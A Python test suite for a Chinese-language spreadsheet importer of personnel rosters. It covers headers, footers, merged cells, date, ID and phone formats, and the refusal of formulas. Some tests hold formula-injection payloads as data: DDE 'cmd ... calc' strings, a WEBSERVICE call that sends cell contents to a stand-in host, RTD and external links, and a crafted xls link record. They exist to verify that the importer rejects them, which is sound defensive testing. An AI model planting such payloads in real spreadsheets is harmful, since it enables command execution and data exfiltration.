"""Lists as offices really send them: what stands above, between and below, in whatever encoding and way of writing."""

import csv
import io
import re
import struct
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from jiangtai.access import Unit
from jiangtai.kernel import FileRefused, clock
from jiangtai.people.sources import SOURCES, cells, mapping, sheets
from jiangtai.people.sources.examining import Entry, examined
from jiangtai.people.tests.invented import id_number, old_number

INSURANCE = SOURCES["social_insurance"]
HEADINGS = ["姓名", "身份证号", "手机号"]
LI = ["李志强", "519900198808081234", "19900000100"]


@pytest.fixture(autouse=True)
def _today():
    with clock.at(date(2026, 11, 21)):
        yield


def book(folder: Path, *pages: list[list[Any]], merged: tuple[str, ...] = ()) -> Path:
    path = folder / "名册.xlsx"
    with xlsxwriter.Workbook(path, {"strings_to_numbers": False}) as made:
        day = made.add_format({"num_format": "yyyy-mm-dd"})
        for rows in pages:
            page = made.add_worksheet()
            for at, row in enumerate(rows):
                for place, value in enumerate(row):
                    if isinstance(value, datetime):
                        page.write_datetime(at, place, value, day)
                    elif value is not None:
                        page.write(at, place, value)
            for cells_ in merged:
                page.merge_range(cells_, rows[int(cells_[1]) - 1][ord(cells_[0]) - 65])
    return path


def text(folder: Path, rows: list[list[str]], encoding: str = "utf-8-sig", sign: str = ",") -> Path:
    path, file = folder / "名册.csv", io.StringIO()
    csv.writer(file, delimiter=sign).writerows(rows)
    path.write_bytes(file.getvalue().encode(encoding))
    return path


def opened(path: Path, source: Any = INSURANCE) -> sheets.Sheet:
    names = mapping.known_headings(source)
    kind = sheets.inspected(path, path.name).kind
    return sheets.opened(path, kind, lambda cell: sheets.spelled(cell) in names)


def lines(path: Path, source: Any = INSURANCE) -> list[tuple[int, list[str]]]:
    return [(line.number, line.cells) for line in opened(path, source).lines]


def entries(path: Path, source: Any = INSURANCE) -> list[Entry]:
    sheet = opened(path, source)
    fields = mapping._guessed(source, sheet.headings)
    return list(examined(source, Unit(name="局"), fields, sheet.lines, date(2026, 9, 30)))


def test_titles_above_sums_between_and_signatures_below_are_no_people(tmp_path):
    rows = [
        ["锦川区参保人员名册"],
        ["填报单位：某局", None, "2026年9月30日"],
        ["序号", *HEADINGS],
        [1, *LI],
        [None, "小计", None, "1 人"],
        [],
        [2, " 王 芳 ", "519900199001011234", None],
        ["合计", "2"],
        ["合　计：2 人"],
        ["制表人：张三", None, "审核：李四"],
    ]
    path = book(tmp_path, rows, merged=("A1:D1",))
    assert opened(path).headings == ["序号", *HEADINGS] and opened(path).header == 3
    assert [number for number, _ in lines(path)] == [4, 7], "as Excel counts them"


def test_somebody_whose_name_begins_like_a_sum_stays(tmp_path):
    rows = [["姓名", "单位"], ["合计芳", "合计制造厂"], ["总计", ""], ["共计华", "甲厂"]]
    assert [cells_[0] for _, cells_ in lines(book(tmp_path, rows))] == ["合计芳", "共计华"]


def test_a_header_over_two_lines(tmp_path):
    rows = [
        ["基本情况", None, "参保情况", None],
        ["姓名", "身份证号", "单位情况", "参保情况"],
        [None, None, "单位名称", "参保日期"],
        ["李志强", LI[1], "甲厂有限公司", "2021-03-01"],
    ]
    sheet = opened(book(tmp_path, rows, merged=("A1:B1", "C1:D1")))
    assert sheet.headings == ["姓名", "身份证号", "单位名称", "参保日期"]
    assert [line.number for line in sheet.lines] == [4]


def test_a_header_whose_upper_line_holds_the_merged_names(tmp_path):
    rows = [["姓名", "身份证号", "联系方式", None], [None, None, "手机号", "家庭电话"], [*LI, "028-85550000"]]
    sheet = opened(book(tmp_path, rows, merged=("A1:A2", "B1:B2", "C1:D1")))
    assert sheet.headings == ["姓名", "身份证号", "手机号", "家庭电话"]
    assert [line.cells[0] for line in sheet.lines] == ["李志强"]


def test_a_header_whose_upper_line_says_what_the_lower_is_the_number_of(tmp_path):
    """证件 merged over 类型 and 号码; and the whole header once more on the next page, as printing wants it."""
    head = [["姓名", "证件", None, "单位名称"], [None, "类型", "号码", None]]
    rows = [["锦川厂花名册"], *head, ["李志强", "身份证", LI[1], "甲厂"], *head, ["王芳", "身份证", LI[1], "甲厂"]]
    sheet = opened(book(tmp_path, rows, merged=("A2:A3", "B2:C2", "D2:D3")))
    assert sheet.headings == ["姓名", "类型", "证件号码", "单位名称"] and sheet.header == 3
    assert mapping._guessed(INSURANCE, sheet.headings) == ["name", "", "id_number", "employer"]
    assert [line.number for line in sheet.lines] == [4, 7]


def test_notes_below_are_no_people(tmp_path):
    notes = ["注：本表数据截至9月", "备注:新增两人", "说明", "注1：含劳务派遣", "附注", "填表说明：照身份证填写"]
    rows = [
        ["序号", *HEADINGS],
        [1, *LI],
        *([note] for note in notes),
        [None, "注：姓名照身份证"],
        [2, "注明远", *LI[1:]],
    ]
    assert [number for number, _ in lines(book(tmp_path, rows))] == [2, 10]


@pytest.mark.parametrize("closed", ["", '丙厂"'])
def test_a_quote_that_is_not_closed_swallows_nobody(tmp_path, closed):
    rows = [HEADINGS, *([f"王{at}", id_number(order=at), ""] for at in range(1, 60))]
    path = text(tmp_path, rows)
    told = path.read_text("utf-8-sig").splitlines()
    told[4] += '"5号车间'
    told[50] += closed
    path.write_text("\n".join(told), "utf-8-sig")
    with pytest.raises(FileRefused, match="从第 5 行起读不下去"):
        lines(path)


def test_a_sum_beside_a_merged_name_is_nobody(tmp_path):
    rows = [
        ["姓名", "身份证号", "单位名称"],
        ["李志强", LI[1], "甲厂"],
        [None, None, "合计：2"],
        ["王芳", LI[1], "乙厂"],
    ]
    assert [number for number, _ in lines(book(tmp_path, rows, merged=("A2:A3",)))] == [2, 4]


FOOT = ["填报人：张三", "填报人（签字）：", "经办人: 李四", "联系电话：028-85550000", "填报日期：2026年9月30日",
        "单位负责人：", "以下空白", "（以下空白）", "----以下无正文----", "共 13 人", "本页共13人", "合计人数：13",
        "川锦重工有限公司（2人）", "川锦重工有限公司(共 2 人)"]  # fmt: skip


@pytest.mark.parametrize("foot", FOOT)
def test_what_stands_at_the_foot_and_over_a_group_is_nobody_in_whichever_column(tmp_path, foot):
    rows = [["序号", *HEADINGS], [1, *LI], [foot], [None, foot], [foot, None, None, "9月30日"]]
    assert [number for number, _ in lines(book(tmp_path, rows))] == [2]


@pytest.mark.parametrize("foot", [*FOOT, "合计", "注：新增"])
def test_whoever_has_an_identity_number_is_somebody(tmp_path, foot):
    """Also without a name, or beside a word that a foot begins with; so is who has a name and no number."""
    rows = [["单位名称", *HEADINGS], ["甲厂", *LI], [foot, None, LI[1]], [foot, foot, LI[1]], [foot, "李志强", None]]
    assert len(lines(book(tmp_path, rows))) == 4


def test_what_is_merged_down_a_column_stands_in_each_of_its_lines(tmp_path):
    """And is said; a line with nothing of its own stays nobody."""
    told = (("李志强", "甲厂"), ("王芳", None), None, ("赵强", None), ("周杰", None), ("吴迪", "乙厂"), ("郑爽", None))
    rows = [["姓名", "身份证号", "单位名称"], *([one[0], id_number(), one[1]] if one else [None] * 3 for one in told)]
    path = book(tmp_path, rows, merged=("C2:C5", "C7:C8"))
    firms = [line.cells[2] for line in opened(path).every]
    assert firms == ["单位名称", "甲厂", "甲厂", "", "甲厂", "", "乙厂", "乙厂"], "so does what is given back"
    found = entries(path)
    assert [(one.number, one.values.get("employer")) for one in found] == [
        (2, "甲厂"), (3, "甲厂"), (5, "甲厂"), (6, None), (7, "乙厂"), (8, "乙厂")
    ]  # fmt: skip
    told = {one.number: [wrong.words for wrong in one.wrongs] for one in found if one.wrongs}
    assert set(told) == {3, 5, 8} and all("与上面合并" in words for (words,) in told.values())
    assert all(one.is_good for one in found)


def test_other_sheets_of_people_are_named(tmp_path):
    """An empty one, a guide and a sheet of something else are none."""
    second, bare = [["二车间名册"], HEADINGS, ["王芳", LI[1], ""]], [["职工姓名", "联系电话"], ["周杰", LI[2]]]
    guide, firms = [["姓名", "照身份证填写"]], [["单位名称", "统一社会信用代码"], ["甲厂", ""]]
    path = book(tmp_path, [HEADINGS, LI], second, [HEADINGS], guide, bare, firms)
    assert opened(path).others() == ["Sheet2", "Sheet5"]
    assert opened(text(tmp_path, [HEADINGS, LI])).others() == []


def test_what_stands_on_sheets_before_the_list_is_not_the_list(tmp_path):
    guide = [["填表说明"], ["姓名", "按身份证填写"], ["身份证号", "18 位"]]
    path = book(tmp_path, guide, [], [["名册"], HEADINGS, LI])
    assert lines(path) == [(3, LI)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
@pytest.mark.parametrize("sign", [",", "\t", ";"])
def test_text_of_any_encoding_and_division(tmp_path, encoding, sign):
    rows = [["名册", "", ""], HEADINGS, LI, ["𠮷野䶮", "519900199001011234", ""]]
    assert [cells_[0] for _, cells_ in lines(text(tmp_path, rows, encoding, sign))] == ["李志强", "𠮷野䶮"]


def test_text_as_excel_calls_unicode(tmp_path):
    """UTF-16 with a mark, tabs between the cells, and called .txt."""
    path = text(tmp_path, [HEADINGS, LI], "utf-16", "\t").rename(tmp_path / "名册.txt")
    assert lines(path) == [(2, LI)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_an_empty_line_counts_in_every_encoding(tmp_path, encoding):
    assert lines(text(tmp_path, [HEADINGS, LI, [], LI], encoding)) == [(2, LI), (4, LI)]


def test_columns_in_another_order_and_under_other_names(tmp_path):
    rows = [["缴费单位", "联系电话（手机）", "公民身份号码*", " 姓 名 ", "备注"], ["甲厂", LI[2], LI[1], LI[0], "无"]]
    (found,) = entries(book(tmp_path, rows))
    assert (found.values["name"], found.values["phone"], found.values["employer"]) == ("李志强", LI[2], "甲厂")


def test_a_list_without_a_name_is_asked_about_and_one_heading_alone_is_no_header(tmp_path):
    sheet = opened(book(tmp_path, [["职工", "身份证号", "手机号"], LI]))
    assert mapping._guessed(INSURANCE, sheet.headings) == ["", "id_number", "phone"]
    with pytest.raises(FileRefused, match="没有找到表头"):
        opened(book(tmp_path, [["职工", "身份证号"], LI[:2]]))
    with pytest.raises(FileRefused, match="没有找到表头"):
        opened(book(tmp_path, [LI, LI]))


WAYS = ["1990年3月5日", "1990.3.5", "1990-3-5", "1990/03/05", "19900305", 32937, "32937", "1990-03-05 00:00:00",
        "1990．3．5",
        datetime.fromisoformat("1990-03-05"), "１９９０年３月５日", "1990 年 3 月 5 日", " 1990-03-05 "]  # fmt: skip


@pytest.mark.parametrize("way", WAYS, ids=str)
def test_every_way_of_writing_a_day(tmp_path, way):
    rows = [["姓名", "出生日期", "手机号"], ["李志强", way, LI[2]]]
    (found,) = entries(book(tmp_path, rows), SOURCES["union_members"])
    assert found.values.get("birth") == "1990-03-05", found.wrongs


@pytest.mark.parametrize(
    ("way", "words"),
    [("1990-02-30", "没有这一天"), ("1990年3月", "只有年月"), ("199003", "只有年月"),
     ("1988", "只有年份，请写到日，如"), ("2024.0", "只有年份"), ("２０１９年", "只有年份"), ("三月五日", "不是日期"),
     ("2031-01-01", "请核对"), ("90.3.5", "不是日期")],
)  # fmt: skip
def test_a_day_that_is_none_says_why(way, words):
    with pytest.raises(ValueError, match=words):
        cells.read("birth", way)


@pytest.mark.parametrize("way", ["44256", "44256.0", 44256, "2021年3月", "202103", "2021.03"], ids=str)
def test_a_day_on_which_something_began_may_be_counted_by_a_spreadsheet_or_a_month(tmp_path, way):
    rows = [["姓名", "手机号", "入会日期", "所属工会"], ["李志强", LI[2], way, "甲厂工会"]]
    (found,) = entries(book(tmp_path, rows), SOURCES["union_members"])
    assert found.values.get("joined") == "2021-03-01", found.wrongs


@pytest.mark.parametrize("field", ["birth", "since", "joined", "left", "certified"])
def test_a_year_alone_is_no_day_that_a_spreadsheet_counted(field):
    for year in ("1988", "2024"):
        with pytest.raises(ValueError, match="只有年份"):
            cells.read(field, year)
    assert cells.read(field, "9862") == "1926-12-31", "no year"


LEFT = ["暂停参保", "终止参保", "中断缴费", "停保", "停止缴费", "断缴", "减员", "已离职"]


def test_a_state_in_the_words_of_insurance_offices(tmp_path):
    for word, state in [
        *((one, "left") for one in LEFT),
        ("正常缴费", "there"),
        ("正常参保", "there"),
        ("待岗", "there"),
        ("内退", "there"),
    ]:
        (found,) = entries(book(tmp_path, [[*HEADINGS, "参保状态"], [*LI[:1], id_number(), LI[2], word]]))
        assert found.values.get("state") == state and found.is_good, word


def test_who_is_in_a_state_that_nobody_can_read_is_not_taken_over(tmp_path):
    """Nothing else says whether somebody is still there; an empty cell does."""
    rows = [[*HEADINGS, "参保状态"], ["李志强", id_number(), LI[2], "冻结"], ["王芳", id_number("19900101"), "", ""]]
    unread, empty = entries(book(tmp_path, rows))
    (wrong,) = unread.wrongs
    assert not unread.is_good and wrong.is_fatal and wrong.words.startswith("在职状态应为在职、离职、退休、死亡")
    assert empty.is_good


def numbers() -> list[tuple[Any, str]]:
    new = "51990019880808123"
    whole = next(new[:14] + f"{order:03d}X" for order in range(999) if _holds(new[:14] + f"{order:03d}X"))
    plain = id_number("19790303")
    wide = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
    return [
        (plain, plain), (whole.lower(), whole), (whole.translate(wide), whole), (old_number(plain), plain),
        (f" {plain[:6]} {plain[6:14]} {plain[14:]}", plain), (f"'{plain}", plain), (f"{plain}\t", plain),
        (f"\u200b{plain}\u00a0", plain), (int(old_number(plain)), plain),
    ]  # fmt: skip


def _holds(text_: str) -> bool:
    try:
        return bool(cells.read("id_number", text_))
    except ValueError:
        return False


def test_every_way_of_writing_a_number(tmp_path):
    for way, meant in numbers():
        (found,) = entries(book(tmp_path, [HEADINGS, ["李志强", way, ""]]))
        assert found.values.get("id_number") == meant, (way, found.wrongs)


def whole_as_cut() -> str:
    """A number of fifteen signs and three noughts whose check character happens to fit."""
    return next(one for order in range(100, 1000, 100) for month in range(1, 13)
                if (one := id_number(f"1988{month:02d}08", order)).endswith("0"))  # fmt: skip


def test_a_number_that_a_spreadsheet_took_for_a_quantity_is_told_and_never_guessed(tmp_path):
    """Excel keeps fifteen digits; what a program makes of them may hold by chance, and is somebody else's."""
    rows = [["姓名", "身份证号", "出生日期", "手机号"]]
    born = f"{whole_as_cut()[6:10]}-{whole_as_cut()[10:12]}-{whole_as_cut()[12:14]}"
    for way in (
        float(whole_as_cut()),
        5.19900198808081e17,
        "5.19900198808081E+17",
        "519900198808080000",
    ):
        rows.append(["李志强", way, born if len(rows) != 4 else "1988-08-08", LI[2]])
    for found in entries(book(tmp_path, rows)):
        assert not found.is_good and "id_number" not in found.values
        (wrong,) = found.wrongs
        assert "当作数字存过，只留下前 15 位" in wrong.words and "设为“文本”" in wrong.words, found.number
    (found,) = entries(book(tmp_path, [HEADINGS, ["李志强", whole_as_cut(), LI[2]]]))
    assert found.is_good and "末三位是 000" in found.wrongs[0].words, "one in eleven hundred has such a number"
    rows = [["姓名", "手机号", "所属工会", "会员卡号"], ["李志强", LI[2], "甲厂工会", 6.2e18]]
    (found,) = entries(book(tmp_path, rows), SOURCES["union_members"])
    assert "union_card" not in found.values and "只留下前 15 位" in found.wrongs[0].words


@pytest.mark.parametrize("paper", ["E12345678", "ea1234567", "H1234567802", "M12345678"])
def test_another_paper_is_called_one_and_what_to_do_is_said(tmp_path, paper):
    (found,) = entries(book(tmp_path, [HEADINGS, ["Anna Schmidt", paper, LI[2]]]))
    (wrong,) = found.wrongs
    assert "看来是护照或通行证的号码" in wrong.words and "请改填" in wrong.words and not found.is_good
    (found,) = entries(
        book(tmp_path, [[*HEADINGS, "所属工会"], ["Anna", paper, LI[2], "甲厂工会"]]), SOURCES["union_members"]
    )
    assert found.is_good and found.wrongs[0].words.endswith("这一栏没有导入"), "of a member the phone is enough"


PHONES = [19900000100, "199 0000 0100", "199-0000-0100", "１９９０００００１００", "+86 19900000100", "19900000100.0"]


@pytest.mark.parametrize("way", PHONES, ids=str)
def test_every_way_of_writing_a_phone(tmp_path, way):
    (found,) = entries(book(tmp_path, [HEADINGS, ["李志强", id_number(), way]]))
    assert found.values.get("phone") == "19900000100", found.wrongs


def counted(folder: Path, *cells_: tuple[str, str, Any], array: str = "") -> Path:
    """A workbook with a head, three people and a sum below them; formulas in these cells."""
    path = folder / "名册.xlsx"
    with xlsxwriter.Workbook(path) as made:
        made.add_worksheet("说明").write_formula("A1", "=COUNTA(名册!B:B)", None, 3)
        page = made.add_worksheet("名册")
        for at, row in enumerate([["名册"], ["备注", *HEADINGS], *[["甲", *LI]] * 3, ["合计"]]):
            page.write_row(at, 0, row)
        for place, formula, shown in cells_:
            page.write_formula(place, formula, None, shown)
        if array:
            page.write_array_formula(array, "=B3:B4", None, "李志强")
    return path


READ = {1: "姓 名", 2: "身份证号"}


@pytest.mark.parametrize(
    ("made", "words"),
    [
        ([("C4", '="51990019880808"&"1234"', LI[1])], "第 4 行“身份证号”是公式"),
        ([("C5", "=MID(A1,1,2)", "x"), ("B5", "=A1", "李")], "第 5 行“姓 名”是公式"),
        ([("A3", "=A1", 1), ("B6", "=COUNTA(B3:B5)", 3), ("D3", "=1", 1)], ""),
    ],
)
def test_what_a_formula_shows_is_not_read_and_elsewhere_it_does_no_harm(tmp_path, made, words):
    sheet = opened(counted(tmp_path, *made))
    if not words:
        assert len(list(sheet.typed(READ))) == 3
        return
    with pytest.raises(FileRefused, match=f"{words}.*选择性粘贴.*再上传"):
        list(sheet.typed(READ))


def test_what_one_formula_fills_are_formulas_too(tmp_path):
    with pytest.raises(FileRefused, match="第 5 行“姓 名”是公式"):
        list(opened(counted(tmp_path, ("A3", "=1", 1), array="B5:B9")).typed(READ))


def test_a_shared_formula_stands_in_each_of_its_cells_and_a_cell_may_not_say_where_it_is(tmp_path):
    path = counted(tmp_path, ("C3", "=A1", "x"), ("C5", "=A1", "x"))
    rewritten(path, lambda text: re.sub(r'(<c r="C3"[^>]*>)<f>A1</f>', r"\1", text))
    rewritten(path, lambda text: text.replace("<f>A1</f>", '<f t="shared" si="0"/>'))
    with pytest.raises(FileRefused, match="第 5 行“身份证号”"):
        list(opened(path).typed(READ))
    rewritten(path, lambda text: re.sub(r'(<c|<row) r="[A-Z]*\d+"', r"\1", text).replace("<f ", "<x:f "))
    rewritten(path, lambda text: text.replace("<worksheet ", '<worksheet xmlns:x="x" '))
    with pytest.raises(FileRefused, match="第 5 行“身份证号”"):
        list(opened(path).typed(READ))


@pytest.mark.parametrize("encoding", ["klingon", "GB18030"])
def test_a_sheet_in_an_encoding_that_nobody_reads_is_refused_as_damaged(tmp_path, encoding):
    path = counted(tmp_path, ("C3", "=A1", "x"))
    rewritten(path, lambda text: text.replace('encoding="UTF-8"', f'encoding="{encoding}"'))
    with pytest.raises(FileRefused, match="可能已损坏"):
        list(opened(path).typed(READ))


def rewritten(path: Path, change: Any) -> None:
    """The workbook with another text for its list."""
    with zipfile.ZipFile(path) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    with zipfile.ZipFile(path, "w") as file:
        for name, data in parts.items():
            file.writestr(name, change(data.decode()) if name.endswith("sheet2.xml") else data)


REACHING = [
    "='[1]Sheet 1'!A1", "=[1]Sheet1!A1", "=SUM('C:\\x\\[b.xlsx]S'!A1:A3)", "=cmd|'/C calc'!A0", "=DDE|a!b+1",
    '=_xlfn.WEBSERVICE("http://x.cn/"&A1)', '=webservice ("x")', '=RTD("a",,"b")',
]  # fmt: skip
HARMLESS = ["=COUNTA(A2:A9)", "=Sheet2!A1", "='甲 乙'!A1&\"|!\"", "=表1[[#This Row],[姓名]]", '="[x]y!"&A1', "=A1|1"]


@pytest.mark.parametrize("formula", [*REACHING, *HARMLESS])
def test_what_asks_another_file_a_program_or_the_web_is_refused_wherever_it_stands(tmp_path, formula):
    path = counted(tmp_path, ("H9", formula, 0))
    if formula in HARMLESS:
        assert len(lines(path)) == 3
        return
    with pytest.raises(FileRefused, match="连到别的文件、程序或网址"):
        opened(path)


TYPED = ["-", "--", "—", "+86 199 0000 0100", "-5", "@", "+1.5", "", "=", "- 无"]
COUNTED = ["=1", "= 1+1", "=张三", "@SUM(1)", "+A1", "-2+3+cmd|' /C calc'!A0", "+SUM(1)", "\t=1"]


@pytest.mark.parametrize("cell", [*TYPED, *COUNTED])
def test_text_that_a_spreadsheet_would_count_with(tmp_path, cell):
    assert sheets.is_formula(cell) is (cell in COUNTED)
    path = text(tmp_path, [["备注", *HEADINGS], ["=1+1", *LI], ["", LI[0], cell, ""]])
    if cell not in COUNTED:
        assert len(list(opened(path).typed(READ))) == 2
        return
    with pytest.raises(FileRefused, match=r"是公式|公式，不能上传"):
        list(opened(path).typed(READ))


def test_text_that_asks_a_program_is_refused_in_any_column(tmp_path):
    with pytest.raises(FileRefused, match="第 2 行有连到别的文件、程序或网址的公式"):
        lines(text(tmp_path, [["备注", *HEADINGS], ["=cmd|' /C calc, 1'!A0", *LI]]))


def test_text_that_begins_like_a_formula_and_goes_on_for_ever_holds_nobody_up():
    signs = ("+" + "." * 100_000, "-" + "(" * 100_000, "=" + "|" * 100_000, "=" + "]" * 100_000, " " * 100_000)
    assert [sheets.is_formula(one) for one in signs] == [False, False, True, True, False]
    assert not any(map(sheets.reaches_out, signs))


def test_formulas_of_an_old_workbook(tmp_path):
    path = tmp_path / "名册.xls"
    rows = [HEADINGS, LI, ["王芳", "519900199001011234", ""], ["合计", "", ""]]
    path.write_bytes(old_workbook(rows, sums=[(3, 1), (1, 2)]))
    assert len(list(opened(path).typed({0: "姓名", 1: "身份证号"}))) == 2
    path.write_bytes(old_workbook(rows, sums=[(3, 1), (2, 0)]))
    with pytest.raises(FileRefused, match="第 3 行“姓名”是公式"):
        list(opened(path).typed({0: "姓名"}))
    path.write_bytes(old_workbook(rows, link=b"\x01\x00\x08\x00\x00cmd\x03calc"))
    with pytest.raises(FileRefused, match="连到别的文件、程序或网址"):
        opened(path)
    path.write_bytes(old_workbook(rows, link=b"\x01\x00\x01\x04"))
    assert len(lines(path)) == 2, "a workbook may name itself"


def test_an_old_workbook(tmp_path):
    path = tmp_path / "名册.xls"
    path.write_bytes(old_workbook([HEADINGS, LI, ["王芳", "519900199001011234", ""]]))
    assert lines(path) == [(2, LI), (3, ["王芳", "519900199001011234", ""])]


def old_workbook(rows: list[list[str]], sums: list[tuple[int, int]] = [], link: bytes = b"") -> bytes:  # noqa: B006
    """A workbook of 1997: records in a stream in a small file system; formulas in some cells, a link to elsewhere."""

    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    def label(at: int, place: int, value: str) -> bytes:
        return record(0x0204, struct.pack("<HHHHB", at, place, 0, len(value), 1) + value.encode("utf-16-le"))

    begin, end = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0x07CC, 0, 6)), record(0x000A, b"")
    page = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 0x07CC, 0, 6))
    page += b"".join(label(at, place, value) for at, row in enumerate(rows) for place, value in enumerate(row))
    page += b"".join(record(0x0006, struct.pack("<HHHdHIH", *place, 0, 1.0, 0, 0, 0)) for place in sums)
    page += record(0x00EC, bytes(4_096)) + end
    name, links = b"Sheet1", record(0x01AE, link) if link else b""
    at = len(begin) + 4 + 8 + len(name) + len(links) + len(end)
    sheet = record(0x0085, struct.pack("<IBBBB", at, 0, 0, len(name), 0) + name)
    return _compound(begin + sheet + links + end + page)


def _compound(stream: bytes) -> bytes:
    """The stream `Workbook` alone in a file system of sectors of 512 bytes."""
    count = -(-len(stream) // 512)
    stream = stream.ljust(count * 512, b"\0")
    following = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, count + 2), 0xFFFFFFFE]
    table = struct.pack("<128I", *(following + [0xFFFFFFFF] * 128)[:128])
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4_096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    entries_ = _entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + _entry("Workbook", 2, 0xFFFFFFFF, 2, len(stream))
    return header + table + entries_.ljust(512, b"\0") + stream


def _entry(name: str, kind: int, child: int, first: int, size: int) -> bytes:
    title = (name + "\0").encode("utf-16-le")
    ahead = title.ljust(64, b"\0") + struct.pack("<HBB", len(title), kind, 1)
    return ahead + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child) + bytes(36) + struct.pack("<IQ", first, size)


@pytest.mark.parametrize("line", ['李志强,="519900198808081234"', '李志强,"=""519900198808081234"""'])
def test_a_number_that_a_program_held_against_rounding_is_no_formula(tmp_path, line):
    path = tmp_path / "导出.csv"
    path.write_text(f"姓名,身份证号\n{line}\n", encoding="utf-8")
    (read,) = opened(path).typed({0: "姓名", 1: "身份证号"})
    assert read.cells == ["李志强", "519900198808081234"]
